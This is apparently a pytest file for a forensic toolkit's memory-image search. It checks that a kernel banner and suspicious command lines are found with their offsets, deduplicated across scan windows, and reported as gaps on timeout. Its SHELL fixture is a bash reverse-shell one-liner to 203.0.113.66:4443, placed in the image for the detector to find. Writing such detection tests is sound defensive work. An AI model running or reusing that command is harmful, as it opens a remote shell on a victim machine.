"""The search of a memory image without a symbol table."""

from __future__ import annotations

from pathlib import Path

import pytest

from forensic_toolkit.results import Results
from forensic_toolkit.rules import memory_search
from forensic_toolkit.times import now

BANNER = b"Linux version 6.99.0-unknown (builder@example) (gcc 14) #1 SMP PREEMPT_DYNAMIC 2026\n"
SHELL = b"bash -i >& /dev/tcp/203.0.113.66/4443 0>&1"


def results() -> Results:
    return Results("fc-20260101-0123456789", "mem-1", "memory", started=now())


def image_with(folder: Path, *content: bytes) -> Path:
    path = folder / "memory"
    path.write_bytes(b"EMiL" + bytes(60) + b"\0".join(content) + bytes(4096))
    return path


def test_banner_and_commands_are_found_with_their_places(tmp_path: Path) -> None:
    image = image_with(tmp_path, BANNER, b"harmless text", SHELL, SHELL, b"\x01" + SHELL[:4])
    assert memory_search.banners(image) == [BANNER.decode().rstrip("\n")]
    found = results()
    memory_search.analyse(image, results=found)
    commands = [item for item in found.findings if "text in memory" in item.title]
    assert [item.detail for item in commands] == [SHELL.decode()]
    assert image.read_bytes()[commands[0].data["offset"] :].startswith(SHELL)
    assert commands[0].confidence == "low"


def test_a_text_across_two_windows_is_reported_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory_search, "WINDOW", 4096)
    monkeypatch.setattr(memory_search, "OVERLAP", 512)
    path = tmp_path / "memory"
    path.write_bytes(b"EMiL" + bytes(4080) + SHELL + bytes(9000))
    found = results()
    memory_search.analyse(path, results=found)
    assert [item.detail for item in found.findings if "text in memory" in item.title] == [SHELL.decode()]


def test_running_out_of_time_is_a_gap_with_the_offset_reached(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(memory_search, "SECONDS", -1.0)
    found = results()
    memory_search.analyse(image_with(tmp_path, BANNER), results=found)
    assert any(what == "command lines" and why.startswith("0 of ") for what, why in found.gaps)
